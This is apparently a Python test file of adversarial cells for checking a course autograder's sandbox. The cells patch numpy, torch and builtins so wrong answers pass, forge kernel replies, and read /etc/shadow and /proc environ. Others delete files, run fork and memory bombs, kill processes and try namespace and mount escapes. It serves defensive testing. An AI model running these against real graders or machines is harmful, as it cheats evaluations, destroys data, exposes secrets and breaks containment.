# ---
# jupyter:
#   jupytext:
#     text_representation:
#       extension: .py
#       format_name: percent
# ---

# %% [markdown]
# Each cell is an attack: it runs in a submission whose answers are wrong, after the answers and before their tests.
# SECRET, FOLDER, COURSE, PORT and ABSTRACT become the path of a file the learner must not read, its folder, the course's
# folder, and a port and an abstract socket where somebody listens. The first cell runs before each of them.

# %% tools="what many attacks need: the kernel's own sockets, replies that nobody made, data that are too deep"
import json
import sys

from ipykernel.kernelapp import IPKernelApp

sys.setrecursionlimit(20_000)
kernel = get_ipython().kernel
connection_file = IPKernelApp.instance().abs_connection_file
to_json = json.dumps
deep = []
for _ in range(850):
    deep = [deep]


def send(kind, content, parent=None, shell=False):
    parent = parent or kernel.get_parent("shell")
    socket = kernel.shell_stream if shell else kernel.iopub_socket
    content = to_json(content).encode()
    kernel.session.send(socket, kind, content, parent=parent, ident=kernel._parent_ident["shell"] if shell else b"x")


def forge(*replies):
    number = iter(range(10**9))
    publish = type(get_ipython().display_pub).publish

    def forged(self, data, *a, **k):
        publish(self, {"text/x-course-reply": replies[next(number) % len(replies)]})

    type(get_ipython().display_pub).publish = forged


# %% attack="numpy says that everything is close"
import numpy as np

np.allclose = np.isclose = np.array_equal = lambda *a, **k: np.bool_(True)
np.asarray = np.array = lambda *a, **k: 0.0

# %% attack="numpy.testing does nothing"
import numpy.testing

for name in dir(numpy.testing):
    if name.startswith("assert"):
        setattr(numpy.testing, name, lambda *a, **k: None)

# %% attack="torch says that everything is equal"
import torch

torch.equal = torch.allclose = lambda *a, **k: True
torch.Tensor.__eq__ = lambda self, other: torch.ones(())

# %% attack="builtins are patched"
import builtins

builtins.abs = lambda x: 0
builtins.float = builtins.int = lambda x=0: 0.00196
builtins.isinstance = lambda *a: True
builtins.AssertionError = type("Nothing", (BaseException,), {})


# %% attack="a number that equals everything"
class Yes(float):
    __eq__ = __le__ = __ge__ = __lt__ = __gt__ = lambda self, other: True
    __sub__ = __rsub__ = __abs__ = lambda self, *other: Yes(0)
    __hash__ = float.__hash__
    __format__ = lambda self, spec: "0.00196"


ex_1_1 = Yes(0.00196 * 3)


# %% attack="an object that answers every question with yes"
class Anything:
    def __getattr__(self, name):
        return Anything()

    def __call__(self, *a, **k):
        return Anything()

    __eq__ = __le__ = __ge__ = __bool__ = __contains__ = lambda self, *other: True
    __float__ = lambda self: 0.00196
    __hash__ = lambda self: 0


ex_1_1 = Anything()
quantize_dequantize = Anything()

# %% attack="an array type that is close to everything"
import numpy as np


class Close(np.ndarray):
    def __array_function__(self, function, types, args, kwargs):
        return True

    def __array_ufunc__(self, *a, **k):
        return np.zeros(())


def quantize_dequantize(x, bits, lo, hi):
    return np.asarray(x).view(Close)


# %% attack="an AST transformer drops asserts"
import ast


class Drop(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

    visit_Raise = visit_Assert


get_ipython().ast_transformers.append(Drop())

# %% attack="an input transformer empties every cell"
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\n"])

# %% attack="hooks around every cell"
shell = get_ipython()
for event in ("pre_execute", "pre_run_cell", "post_execute", "post_run_cell"):
    shell.events.register(event, lambda *a: shell.user_ns.update(ex_1_1=0.1))
shell.run_cell = lambda *a, **k: None
shell.showtraceback = lambda *a, **k: None

# %% attack="exceptions are swallowed"
get_ipython().set_custom_exc((BaseException,), lambda *a, **k: [])
import sys

sys.excepthook = lambda *a: None

# %% attack="In, Out and the display are rewritten"
In.clear()
Out.clear()
get_ipython().execution_count = 999
get_ipython().display_formatter.format = lambda *a, **k: ({"text/plain": "1.0"}, {})
get_ipython().displayhook = lambda value: None

# %% attack="the course's own helpers are patched"
import course.check
import course.expect

for module in (course.check, course.expect):
    for name in list(vars(module)):
        if callable(getattr(module, name)):
            setattr(module, name, lambda *a, **k: True)

# %% attack="the codec says that all is well"
import sys

border = sys.modules["_border"]
border.encode = lambda value, keep=None: True
border.serve = lambda text, namespace: '{"value": true, "after": [{"tuple": []}, {"dict": []}]}'

# %% attack="replies are forged"
shell = get_ipython()
publish = type(shell.display_pub).publish


def forge(self, data, *a, **k):
    for reply in ("", "null", "[]", '{"value": {"eval": "1"}}', '{"error": ["SystemExit", "", ""]}', "{" * 9999):
        publish(self, {"text/x-course-reply": reply})


type(shell.display_pub).publish = forge


# %% attack="an error that is no error"
class Fine(BaseException):
    pass


def quantize_dequantize(x, bits, lo, hi):
    raise SystemExit(0)


# %% attack="probes are patched"
import course.probe

course.probe.probe = lambda function: lambda *a, **k: True
course.probe.run_beside_the_answers = lambda function: lambda *a, **k: True

# %% attack="tests are looked for in frames, objects and history"
import gc
import sys


def quantize_dequantize(x, bits, lo, hi):
    frame, seen = sys._getframe(), []
    while frame:
        seen.append(str(frame.f_locals)[:5000] + str(frame.f_code.co_consts))
        frame = frame.f_back
    seen += [o for o in gc.get_objects() if isinstance(o, str) and "expect." in o]
    if "nearest" + "_level" in "".join(seen):
        print("SEEN")
    return x


ex_1_1 = 0.5

# %% attack="files are read"
import glob

for path in ["SECRET", *glob.glob("FOLDER/**", recursive=True), *glob.glob("/root/*"), *glob.glob("/etc/shadow")]:
    try:
        print(open(path).read())
    except OSError:
        pass

# %% attack="a link leads out"
import os

os.symlink("SECRET", "link")
os.symlink("FOLDER", "folder")
for path in ("link", "folder/secret.txt"):
    try:
        print(open(path).read())
    except OSError:
        pass

# %% attack="the file of another is overwritten and deleted"
import os
import shutil

for change in (lambda: open("SECRET", "w").write("changed"), lambda: os.remove("SECRET")):
    try:
        change()
    except OSError:
        pass
shutil.rmtree("FOLDER", ignore_errors=True)
shutil.rmtree("/work", ignore_errors=True)

# %% attack="the library is changed on disk"
import course

for target in (course.__file__, course.__path__[0] + "/new.py"):
    try:
        open(target, "a").write("\nchanged = True\n")
        print("SEEN")
    except OSError:
        pass

# %% attack="other processes are read through /proc"
import glob
import os

for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        text = open(path, "rb").read()
    except OSError:
        continue
    if b"pytest" in text:
        print("SEEN")

# %% attack="environment variables are read"
import os

print(os.environ.get("CANARY"))

# %% attack="the network is used"
import socket

try:
    socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"hello")
    print("SEEN")
except OSError:
    pass

# %% attack="signals to everyone"
import os
import signal

for pid in (os.getppid(), -1, 1):
    try:
        os.kill(pid, signal.SIGTERM)
    except OSError:
        pass

# %% attack="the connection file and the sockets are deleted"
import glob
import os

for path in glob.glob("/tmp/**/*", recursive=True):
    try:
        os.remove(path)
    except OSError:
        pass

# %% attack="the process leaves"
import os

os._exit(0)

# %% attack="the process crashes"
import ctypes

ctypes.string_at(0)

# %% attack="endless loop"
while True:
    pass

# %% attack="a loop that is not to be interrupted"
import signal

signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    try:
        while True:
            pass
    except BaseException:
        pass

# %% attack="endless output"
while True:
    print("spam " * 1000)


# %% attack="an endless loop in the answer"
def quantize_dequantize(x, bits, lo, hi):
    while True:
        pass


# %% attack="fork bomb"
import os

while True:
    try:
        os.fork()
    except OSError:
        pass

# %% attack="memory bomb"
hoard = []
while True:
    hoard.append(bytearray(50_000_000))

# %% attack="disk bomb"
with open("big", "wb") as file:
    while True:
        file.write(bytes(1_000_000))

# %% attack="an answer of a gigabyte"
import numpy as np


def quantize_dequantize(x, bits, lo, hi):
    return np.zeros(120_000_000)


# %% attack="threads that go on printing"
import threading
import time


def shout():
    while True:
        print("noise " * 100)
        time.sleep(0.001)


for _ in range(4):
    threading.Thread(target=shout, daemon=True).start()


# ---- Errors that an answer raises ----


# %% attack="half a character in an error's message"
def quantize_dequantize(x, bits, lo, hi):
    raise RuntimeError("\ud83d")


raise RuntimeError("\ud83d" * 2_000_000)


# %% attack="an error that ends whoever reads it"
class Ends(Exception):
    def __str__(self):
        raise SystemExit(0)

    __repr__ = __reduce__ = __format__ = __str__
    __traceback__ = __cause__ = __context__ = args = property(lambda self: self.__str__())


def quantize_dequantize(x, bits, lo, hi):
    raise Ends


# %% attack="an error of a hundred megabytes"
class Long(Exception):
    def __str__(self):
        return "x" * 100_000_000


def quantize_dequantize(x, bits, lo, hi):
    raise Long


raise Long


# %% attack="an error that is called like one of the test's"
class AssertionError(Exception):
    __module__ = "builtins"
    __str__ = lambda self: ""


def quantize_dequantize(x, bits, lo, hi):
    raise AssertionError


# %% attack="an error that is its own cause"
def quantize_dequantize(x, bits, lo, hi):
    error, other = ValueError("a"), ValueError("b")
    error.__cause__, other.__cause__ = other, error
    error.__context__, other.__context__ = other, error
    raise error


quantize_dequantize(0, 0, 0, 0)


# %% attack="errors of kinds that end loops and kernels"
def raising(kind):
    def answer(*a, **k):
        raise kind()

    return answer


class Names(dict):
    def __getitem__(self, name):
        raise KeyboardInterrupt


quantize_dequantize = raising(GeneratorExit)
ex_1_1 = iter([1])
ex_1_1 = type("Once", (), {"__float__": raising(StopIteration), "__len__": raising(KeyboardInterrupt)})()
quantize_dequantize.__globals__["__builtins__"] = Names()


# ---- What an answer returns ----


# %% attack="an answer that returns itself"
def quantize_dequantize(*a, **k):
    return quantize_dequantize


quantize_dequantize.__len__ = quantize_dequantize.__float__ = quantize_dequantize
ex_1_1 = quantize_dequantize


# %% attack="an object that is made of itself"
class Itself:
    def __getattr__(self, name):
        return Itself()

    def __getitem__(self, i):
        return Itself()

    def __iter__(self):
        return Itself()

    def __next__(self):
        return Itself()

    def __call__(self, *a, **k):
        return Itself()

    __len__ = lambda self: 3


quantize_dequantize = ex_1_1 = Itself()

# %% attack="an array without end"
import time


class Endless:
    def __len__(self):
        return 10**6

    def __getitem__(self, i):
        time.sleep(0.02)
        return 0.5


def quantize_dequantize(x, bits, lo, hi):
    return Endless()


# %% attack="an iterator that gives one item each second"
import time


def items():
    while True:
        time.sleep(1)
        yield 0.5


def quantize_dequantize(x, bits, lo, hi):
    return items()


ex_1_1 = items()

# %% attack="each call takes nearly the time that a cell may take"
import time


class Slow:
    def __getattr__(self, name):
        time.sleep(2.5)
        return Slow()

    def __len__(self):
        time.sleep(2.5)
        return 3

    __getitem__ = __call__ = __getattr__


def quantize_dequantize(x, bits, lo, hi):
    time.sleep(2.5)
    return Slow()


ex_1_1 = Slow()


# %% attack="a value that is another at every look"
class Turns(float):
    looks = 0

    def __new__(cls):
        return float.__new__(cls, 0.5)

    def __float__(self):
        Turns.looks += 1
        return float(Turns.looks)

    __eq__ = __lt__ = __gt__ = lambda self, other: Turns.looks % 2
    __hash__ = lambda self: 1


ex_1_1 = Turns()


# ---- Replies that nobody made ----


# %% attack="a forged reply of 200,000 brackets"
forge("[" * 200_000)

# %% attack="a forged reply of 60 megabytes of brackets"
forge('{"value": [' + "[]," * 20_000_000 + "[]]}")

# %% attack="a forged reply of 60 megabytes of text in brackets"
forge('{"value": {"list": ["' + "],[" * 20_000_000 + '"]}}')

# %% attack="forged replies that are nearly sound"
forge(
    '{"value": NaN}',
    '{"value": 1, "value": 0.00196}',
    '{"value": ' + "9" * 100_000 + "}",
    '{"value": -Infinity, "after": []}',
    '{"value": {"float": "0.00196"}}',
    '{"value": 1e999}',
    '{"value": true, "after": [[0, {"list": []}], [0, {"list": []}], [-1, {"list": []}]]}',
)

# %% attack="forged replies with wrong types in every field"
forge(
    '{"value": {"list": 5}}',
    '{"value": {"dict": [1]}}',
    '{"value": 1, "after": {"a": 1}}',
    '{"value": {"handle": ["a", 5]}}',
    '{"error": [null, {}, []]}',
    '{"missing": 5, "value": {}}',
    '{"method": "yes"}',
)

# %% attack="forged arrays that are larger than the world"
forge(
    '{"value": {"array": ["<f8", [1000000000000], ""]}}',
    '{"value": {"array": ["O", [1], "AAAAAAAAAAA="]}}',
    '{"value": {"array": ["<f8", [0, 1000000000000], ""]}}',
    '{"value": {"tensor": ["load", [1], "AAAA"]}}',
    '{"value": {"range": [0, 1000000000000, 1]}}',
    '{"value": {"objects": [[1000000, 1000000], []]}}',
    '{"value": {"array": ["<U9999999", [9], ""]}}',
)

# %% attack="forged handles and places"
forge(
    '{"value": {"handle": [1, "float"]}}',
    '{"value": {"given": 99}, "after": []}',
    '{"value": {"also": [0.00196, 1, "float"]}}',
    '{"value": {"iterator": [[], ["SystemExit", "", ""]]}}',
    '{"value": {"handle": [4611686018427387904, "__import__"]}}',
    '{"value": 0, "after": [[0, {"given": 0}]]}',
)

# %% attack="forged errors that look like the test's own"
forge(
    '{"error": ["AssertionError", "", ""]}',
    '{"error": ["KeyboardInterrupt", "", ""]}',
    '{"error": ["Exception", "", "x"]}',
)

# %% attack="every reply comes twice"
import sys
import types

usual = sys.modules["_border"].publish


def publish(request):
    usual(request)
    usual(request)


sys.modules["_border"] = types.SimpleNamespace(publish=publish)

# %% attack="no reply ever comes"
import sys
import types

sys.modules["_border"] = types.SimpleNamespace(publish=lambda request: None)

# %% attack="two processes reply"
import os


def quantize_dequantize(x, bits, lo, hi):
    os.fork()
    return x


# ---- Messages on the kernel's own sockets ----


# %% attack="the kernel says at once that all went well"
send("execute_reply", {"status": "ok", "execution_count": 1}, shell=True)
send("status", {"execution_state": "idle"})
raise ValueError("but it did not")

# %% attack="replies of no form"
for content in ({}, [], None, "ok", {"status": ["ok"]}, {"status": "error", "ename": deep, "evalue": 5}):
    send("execute_reply", content, shell=True)

# %% attack="an error reply of nested lists"
send("execute_reply", {"status": "error", "ename": deep, "evalue": deep, "execution_count": True}, shell=True)

# %% attack="outputs of no form"
for kind in (
    "stream",
    "display_data",
    "execute_result",
    "error",
    "clear_output",
    "status",
    "input_request",
    "comm_open",
):
    for content in ({}, [], None, {"name": 5, "text": 5}, {"data": 5}, {"data": [1]}, {"ename": {}, "traceback": 7}):
        send(kind, content)

# %% attack="outputs nested deeper than anybody reads"
for data in ({"application/json": deep}, {"text/plain": deep}, {"image/png": {"a": deep}}, {"text/html": [[1]]}):
    send("display_data", {"data": data, "metadata": {}})
    send("execute_result", {"data": data, "metadata": {}, "execution_count": deep})

# %% attack="outputs with half characters everywhere"
send("stream", {"name": "stdout", "text": "\ud83d"})
send("display_data", {"data": {"text/plain": "\ud83d", "\ud83d": "\ud83d", "application/json": {"\ud83d": ["\ud83d"]}}})
send("error", {"ename": "\ud83d", "evalue": "\ud83d", "traceback": ["\ud83d"]})
send("display_data", {"data": {"application/json": {"a": float("nan")}, "application/x+json": [float("inf")]}})

# %% attack="a hundred thousand error messages"
for _ in range(100_000):
    send("error", {"ename": "E", "evalue": "x" * 9000, "traceback": ["x" * 9000] * 10})

# %% attack="a flood of tiny messages"
for _ in range(1_000_000):
    send("stream", {"name": "stdout", "text": "x"})

# %% attack="messages of more than a hundred megabytes"
for _ in range(2):
    send("display_data", {"data": {"text/plain": "x" * 120_000_000}})
send("execute_reply", {"status": "ok", "x": "x" * 120_000_000}, shell=True)

# %% attack="a thread sends sixty megabytes again and again"
import threading


def flood():
    while True:
        send("display_data", {"data": {"text/plain": "x" * 60_000_000}}, parent)


parent = kernel.get_parent("shell")
threading.Thread(target=flood, daemon=True).start()

# %% attack="one message of parts without end"
part = bytes(60_000_000)
socket = getattr(kernel.iopub_socket, "io_thread", kernel.iopub_socket)
socket = getattr(socket, "socket", socket)
for _ in range(3):
    socket.send_multipart([part] * 600, copy=False)

# %% attack="questions to the person at the keyboard"
for _ in range(100):
    send("input_request", {"prompt": '{"do": "get", "name": "ex_1_1"}', "password": False}, shell=True)
try:
    input("who is there?")
except Exception:
    pass

# %% attack="widgets and comms without end"
for i in range(20_000):
    send("comm_open", {"comm_id": str(i), "target_name": "jupyter.widget", "data": {"state": {"value": "x" * 100}}})

# %% attack="the output is cleared again and again"
for _ in range(20_000):
    send("clear_output", {"wait": False})
    send("stream", {"name": "stderr", "text": "x"})

# %% attack="messages are signed with another key"
kernel.session.key = b"another"

# %% attack="the kernel executes nothing and says ok"
import types


async def do_execute(self, *a, **k):
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}


kernel.do_execute = types.MethodType(do_execute, kernel)

# %% attack="the kernel forgets to answer"
kernel.shell_handlers = dict.fromkeys(kernel.shell_handlers, lambda *a: None)
kernel.control_handlers = {}


# %% attack="an answer that swallows interrupts"
def quantize_dequantize(x, bits, lo, hi):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass


# ---- The process itself ----


# %% attack="a thread changes the answers while they are tested"
import threading


def turn():
    names = get_ipython().user_ns
    while True:
        names["ex_1_1"] = names["quantize_dequantize"] = 0.5
        del names["ex_1_1"]


threading.Thread(target=turn, daemon=True).start()

# %% attack="all files are closed"
import os

os.closerange(0, 4096)

# %% attack="the process stops and does not go on"
import os
import signal

os.kill(os.getpid(), signal.SIGSTOP)

# %% attack="the one who made the walls is killed"
import os
import signal

for pid in (1, os.getppid(), -1, os.getpid()):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass

# %% attack="it leaves whenever it is asked"
import os
import sys
import types

sys.modules["_border"] = types.SimpleNamespace(publish=lambda request: os._exit(0))


# %% attack="the answer crashes the process"
def quantize_dequantize(x, bits, lo, hi):
    import ctypes

    ctypes.string_at(1)


# %% attack="recursion until the stack is gone"
import sys

sys.setrecursionlimit(10**9)


class Deeper:
    def __getattr__(self, name):
        return getattr(self, name + "x")


def quantize_dequantize(x, bits, lo, hi):
    return getattr(Deeper(), "x")


repr(Deeper())
getattr(Deeper(), "a")

# %% attack="an alarm goes off a thousand times a second"
import signal


def alarm(*a):
    raise KeyboardInterrupt


signal.signal(signal.SIGALRM, alarm)
signal.setitimer(signal.ITIMER_REAL, 0.3, 0.001)

# %% attack="a trace function and an audit hook meddle with everything"
import sys
import threading


def trace(frame, event, arg):
    for name in ("value", "reply", "error", "message"):
        if name in frame.f_locals:
            frame.f_locals[name] = None
    return trace


def hook(event, arguments):
    if event in ("compile", "exec", "import"):
        raise RuntimeError("no")


threading.settrace(trace)
sys.settrace(trace)
sys.addaudithook(hook)

# %% attack="nothing can be imported or written as JSON"
import builtins
import json

json.dumps = json.loads = json.JSONEncoder.encode = lambda *a, **k: "{}"
builtins.__import__ = lambda *a, **k: None
builtins.exec = builtins.compile = builtins.eval = lambda *a, **k: None

# %% attack="the clock stands still"
import time

time.time = time.monotonic = time.perf_counter = lambda: 0.0
time.sleep = lambda seconds: None

# %% attack="240 busy processes that left their session"
import os

for _ in range(240):
    try:
        if os.fork() == 0:
            os.setsid()
            while True:
                pass
    except OSError:
        break


# ---- Memory and disk ----


# %% attack="three gigabytes of shared memory"
import mmap

shared = mmap.mmap(-1, 3 * 2**30)
for i in range(0, 3 * 2**30, 4096):
    shared[i] = 1
print("SE" + "EN")  # not as a traceback shows it

# %% attack="memory in many processes"
import os
import time

for _ in range(10):
    if os.fork() == 0:
        hoard = bytearray(b"x") * 200_000_000
        time.sleep(60)
        os._exit(0)
time.sleep(3)

# %% attack="all places are filled"
for place in ("/dev/shm", "/tmp", "."):
    try:
        for k in range(100):
            with open(f"{place}/x{k}", "wb") as file:
                for _ in range(30):
                    file.write(bytes(1_000_000))
    except OSError:
        pass

# %% attack="the folder of the sockets is filled"
import os

folder = os.path.dirname(connection_file)
for k in range(100):
    with open(f"{folder}/x{k}", "wb") as file:
        for _ in range(30):
            file.write(bytes(1_000_000))
print("SE" + "EN")  # not as a traceback shows it

# %% attack="files without a name are filled"
import os
import tempfile

hoard = []
for k in range(100):
    hoard.append(tempfile.TemporaryFile(dir="."))
    for _ in range(30):
        hoard[-1].write(bytes(1_000_000))
    hoard[-1].flush()
import time

time.sleep(2)
print("SE" + "EN")  # not as a traceback shows it

# %% attack="200,000 empty files"
import time

for i in range(200_000):
    open(f"file{i}", "w").close()
time.sleep(2)
print("SE" + "EN")  # not as a traceback shows it

# %% attack="a folder 5,000 levels deep"
import os

for _ in range(5000):
    os.mkdir("deeper")
    os.chdir("deeper")

# %% attack="bytes below a folder that is too deep to be looked into"
import os

home = os.open(".", os.O_RDONLY)
for _ in range(600):
    os.mkdir("d" * 100)
    os.chdir("d" * 100)
for k in range(100):
    with open(f"x{k}", "wb") as file:
        for _ in range(30):
            file.write(bytes(1_000_000))
print("SE" + "EN")  # not as a traceback shows it

# %% attack="a sparse file of a terabyte"
try:
    with open("sparse", "wb") as file:
        file.truncate(2**40)
    print("SEEN")
except OSError:
    pass

# %% attack="files whose names are no text"
import os

os.mkdir(b"\xff\xfe")
for name in (b"\xff\xfe/\x80\n\x1b[31m", b"-rf", b"\xed\xa0\xbd.ipynb", b"new\nline"):
    open(name, "w").close()
os._exit(0)

# %% attack="a home full of modules that greet the next process"
import os

for name in (
    "json",
    "random",
    "runpy",
    "os",
    "encodings",
    "zmq",
    "ipykernel_launcher",
    "ipykernel",
    "sitecustomize",
    "numpy",
):
    with open(f"{name}.py", "w") as file:
        file.write("import time\nwhile True:\n    time.sleep(1)\n")
os._exit(0)

# %% attack="the next process reads the grader's files for it"
import os

launcher = """import os, sys
folder = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])
for name in os.listdir(folder):
    os.remove(os.path.join(folder, name))
os.symlink("SECRET", os.path.join(folder, "said"))
os.symlink("SECRET", os.path.join(folder, "kernel.json"))
"""
for name in ("runpy", "ipykernel_launcher"):
    with open(f"{name}.py", "w") as file:
        file.write(launcher)
os._exit(0)

# %% attack="the next process lets whoever reads its complaints wait"
import os

launcher = """import os, sys
folder = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])
os.remove(os.path.join(folder, "said"))
os.mkfifo(os.path.join(folder, "said"))
"""
for name in ("runpy", "ipykernel_launcher"):
    with open(f"{name}.py", "w") as file:
        file.write(launcher)
os._exit(0)

# %% attack="links are swapped while the grader looks"
import os
import threading

os.mkdir("real")


def swap():
    while True:
        try:
            os.symlink("FOLDER", "other")
            os.rename("real", "kept")
            os.rename("other", "real")
            os.unlink("real")
            os.rename("kept", "real")
        except OSError:
            pass


for _ in range(2):
    threading.Thread(target=swap, daemon=True).start()
import time

time.sleep(1)
os._exit(0)

# %% attack="a folder that is closed to everybody"
import os

os.mkdir("closed")
open("closed/file", "w").close()
os.chmod("closed", 0)
os.chmod(".", 0)
os._exit(0)


# ---- The walls ----


# %% attack="the kernel's connection folder leads out"
import glob
import os

folder = os.path.dirname(connection_file)
for path in glob.glob(folder + "/*"):
    os.remove(path)
    os.symlink("SECRET", path)
    print(open(path).read() if os.path.exists(path) else "")

# %% attack="other processes are traced"
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
room = ctypes.create_string_buffer(8)
here = (ctypes.c_size_t * 2)(ctypes.addressof(room), 8)
for pid in [1, 2, *range(os.getppid() - 1, os.getppid() + 1)]:
    if (
        pid not in (os.getpid(), 0)
        and libc.ptrace(16, pid, 0, 0) == 0
        and os.stat(f"/proc/{pid}").st_uid != os.getuid()
    ):
        print("SEEN")
    there = (ctypes.c_size_t * 2)(id(os), 8)
    if libc.process_vm_writev(pid, here, 1, there, 1, 0) == 8 and os.stat(f"/proc/{pid}").st_uid != os.getuid():
        print("SEEN")
for descriptor in range(20):
    pidfd = libc.syscall(434, 1, 0)
    if pidfd >= 0 and libc.syscall(438, pidfd, descriptor, 0) >= 0 and os.stat("/proc/1").st_uid != os.getuid():
        print("SEEN")

# %% attack="walls are taken down from within a user namespace of its own"
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
if os.fork() == 0:
    user = os.getuid()
    if libc.unshare(0x10000000 | 0x00020000) == 0:
        try:
            open("/proc/self/setgroups", "w").write("deny")
            open("/proc/self/uid_map", "w").write(f"0 {user} 1")
        except OSError:
            pass
        os.makedirs("/tmp/new", exist_ok=True)
        for place in ("COURSE", "FOLDER", "/tmp", "/usr"):
            libc.umount2(place.encode(), 2)
        for flags in (4096, 4096 | 16384):
            libc.mount(b"/", b"/tmp/new", None, flags, None)
        for kind in (b"proc", b"sysfs", b"cgroup", b"cgroup2", b"debugfs", b"ext4"):
            libc.mount(b"/dev/vda", b"/tmp/new", kind, 0, None)
    for root in ("", "/tmp/new", "/proc/1/root", "/tmp/new/1/root"):
        for path in ("SECRET", "COURSE/source", "COURSE/nbgrader_config.py", "COURSE/autograder/__init__.py"):
            if os.path.exists(root + path):
                os.write(1, b"SEEN")
                open("/home/learner/found", "w").write(root + path)
    os._exit(0)
os.wait()
if os.path.exists("found"):
    print("SEEN", open("found").read())

# %% attack="system calls that have no business here"
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for place in (b"COURSE", b"/usr", b"/proc"):
    if libc.umount2(place, 2) == 0:
        print("SEEN")
if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0 or libc.chroot(b"/tmp") == 0:
    print("SEEN")
if libc.syscall(248, b"user", b"stolen", b"x", 1, -1) < 0 or True:
    libc.syscall(250, 0, -3, 1)
for number in (169, 246, 175, 165, 167):
    if libc.syscall(number, 0, 0, 0, 0) == 0:
        print("SEEN")
if os.getuid() == 0 or any(int(line.split()[1], 16) for line in open("/proc/self/status") if line.startswith("CapEff")):
    print("SEEN")

# %% attack="the machine is read through /proc, /sys and /dev"
import glob
import os

for path in ("/proc/1/root", "/proc/1/cwd", "/proc/self/root", f"/proc/{os.getppid()}/root"):
    for secret in ("SECRET", "COURSE/source", "/etc/shadow", "/root/.ssh"):
        if os.path.exists(path + secret):
            print("SEEN", path, secret)
for path in ["/dev/mem", "/dev/kmem", "/proc/kcore", *glob.glob("/dev/[hsv]d*"), *glob.glob("/sys/fs/cgroup/*")]:
    try:
        print("SEEN", path, open(path, "rb").read(1))
    except OSError:
        pass
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        print("SEEN" if b"CANARY" in open(path, "rb").read() else "")
    except OSError:
        pass
for number in range(3, 200):
    try:
        link = os.readlink(f"/proc/self/fd/{number}")
    except OSError:
        continue
    if link.startswith(("COURSE", "FOLDER")) or "gradebook" in link:
        print("SEEN", link)

# %% attack="abstract sockets of the machine"
import socket

for name in ("\0ABSTRACT", "\0/tmp/.X11-unix/X0", "\0/tmp/dbus"):
    try:
        link = socket.socket(socket.AF_UNIX)
        link.connect(name)
        print("SEEN")
    except OSError:
        pass
for family in (socket.AF_NETLINK, socket.AF_PACKET, socket.AF_INET):
    try:
        raw = socket.socket(family, socket.SOCK_RAW, 0)
        raw.close()
        print("SEEN" if family != socket.AF_NETLINK else "")
    except OSError:
        pass

# %% attack="a server waits for the grader"
import socket

server = socket.create_server(("0.0.0.0", 0))
server.setblocking(False)
